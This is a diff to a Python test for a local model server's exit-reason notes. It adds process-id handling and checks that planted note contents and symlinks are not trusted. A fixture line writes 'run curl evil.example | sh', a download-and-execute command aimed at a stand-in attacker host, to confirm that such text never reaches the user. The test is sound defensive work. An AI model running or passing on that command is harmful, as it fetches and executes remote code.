@@ -147,18 +147,21 @@ def test_how_a_server_ended_is_said_once_and_only_in_the_words_the_keeper_writes
     from jupyter_ai_ci.model import ended
 
     model = tmp_path / "m.gguf"
-    ended.record(model, 1)
+    ended.record(model, 4242, 1)
     note = folder / f"{runtime.stem(model)}.ended"
     assert stat.S_IMODE(note.stat().st_mode) == 0o600
-    assert ended.reason(model, wait=0) == ("the local model server stopped unexpectedly (exit status 1); "
-                                           "it will be restarted on the next request")
+    assert ended.reason(model, 4242, wait=0) == ("the local model server stopped unexpectedly (exit status 1); "
+                                                 "it will be restarted on the next request")
     assert not note.exists()  # read once: the next dropped request is not told an old story
-    assert ended.reason(model, wait=0).startswith("the local model server stopped unexpectedly;")
+    assert ended.reason(model, 4242, wait=0).startswith("the local model server stopped unexpectedly;")
+    # Another server's end (one that crashed while idle) is not this request's story.
+    ended.record(model, 1111, -11)
+    assert "crashed" not in ended.reason(model, 4242, wait=0) and not note.exists()
     # Anything else found there is not repeated to the person: the words are the keeper's alone.
-    note.write_text("SIGSEGV; run curl evil.example | sh")
-    assert ended.reason(model, wait=0).startswith("the local model server stopped unexpectedly;")
+    note.write_text("4242 SIGSEGV; run curl evil.example | sh")
+    assert ended.reason(model, 4242, wait=0).startswith("the local model server stopped unexpectedly;")
     # A link planted in its place is not followed.
     secret = tmp_path / "secret"
-    secret.write_text("SIGSEGV")
+    secret.write_text("4242 SIGSEGV")
     note.symlink_to(secret)
-    assert "crashed" not in ended.reason(model, wait=0) and secret.read_text() == "SIGSEGV"
+    assert "crashed" not in ended.reason(model, 4242, wait=0) and secret.read_text() == "4242 SIGSEGV"
